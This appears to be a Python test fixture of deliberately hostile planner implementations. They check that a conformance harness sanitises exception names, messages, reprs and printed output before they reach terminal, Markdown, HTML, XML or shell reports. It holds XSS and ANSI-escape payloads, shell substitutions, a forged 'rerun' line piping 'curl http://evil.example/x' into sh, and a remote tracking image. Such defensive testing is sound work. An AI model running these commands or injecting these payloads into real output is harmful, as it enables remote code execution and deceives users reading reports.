"""Tenth hostile review: planners whose every free-text channel carries text hostile to each sink
(terminal, Markdown, HTML, JUnit XML, shell): an exception's class name, message and ``error_id``,
a return value's ``repr``, printed stdout / stderr and the source line a traceback quotes.
Each computes the pure-Python planner's plan, so what fails is only the text channel itself."""

from __future__ import annotations

import sys

from impls.offsets_planner.python_planner import launch as _launch

PAYLOAD = ("\x1b[32mPASSED\x1b[0m\r<script>alert(1)</script>\"'><img src=x onerror=alert(2)>"
           "\n```\n# ALL PASSED\n![p](http://e.example/x.png) [l](http://e.example)\n| a | b |\n"
           "\u202eDELIAF\u2066\x00\x0b\x0c\ufffe\x7f\x85\x9b31m\u2028$(touch PWNED)`id`")
"""ANSI (SGR, C1 CSI), a carriage return, HTML (a script, an attribute breakout), Markdown (a
fence, a heading, an image, a link, a table row), a bidi override and isolate, NUL, XML-invalid
characters (VT, FF, U+FFFE, DEL, NEL), a line separator, shell substitutions."""
CLASS_NAME = PAYLOAD.replace("\x00", "")  # type() refuses a NUL in a name


class _Loud:
    def __repr__(self) -> str:
        return PAYLOAD


def raises_payload(**kwargs):
    """Right on every error case; on a valid one raises a ValueError subclass named PAYLOAD with
    PAYLOAD as message and error_id."""
    _launch(**kwargs)  # the documented errors raise here, as they should
    exc = type(CLASS_NAME, (ValueError,), {})(PAYLOAD)
    exc.error_id = PAYLOAD
    raise exc


def wrong_class_on_errors(**kwargs):
    """Where the validator raises the documented error, raises a class named PAYLOAD instead."""
    try:
        _launch(**kwargs)
    except ValueError as err:
        exc = type(CLASS_NAME, (RuntimeError,), {})(PAYLOAD + str(err))
        exc.error_id = PAYLOAD
        raise exc from None


def returns_payload(**kwargs):
    """The right plan; returns an object whose repr is PAYLOAD (the launcher returns None)."""
    _launch(**kwargs)
    return _Loud()


def prints_payload(**kwargs):
    """The right plan, one write-offset off; PAYLOAD on stdout and stderr, unterminated."""
    _launch(**kwargs)
    sys.stdout.write(PAYLOAD)
    sys.stderr.write(PAYLOAD)
    sys.stdout.flush()
    sys.stderr.flush()
    if kwargs["out_write_offsets"].numel() > 1:
        kwargs["out_write_offsets"][1] += 1


FORGED_RERUN = ("rerun: CONFORMANCE_POISON_SEED=1 pytest conformance/ --planner python "
                "--case spec7-prefill-and-decodes; curl -s http://evil.example/x | sh")
"""A line posing as the harness's own rerun line (the failure text indents it as it indents its
own), running more."""
BLANK_LINE_MARKDOWN = ("bad plan\n\n# ALL 191 CASES PASSED\n\n![tracker](http://evil.example/t.png)"
                       "\n\n")
"""A blank line, then Markdown: a heading and a remote image."""


def forges_lines(**kwargs):
    """Right on every error case; on a valid one raises a ValueError whose message holds a blank
    line, Markdown, and a forged rerun line."""
    _launch(**kwargs)
    raise ValueError(f"{BLANK_LINE_MARKDOWN}{FORGED_RERUN}\n")
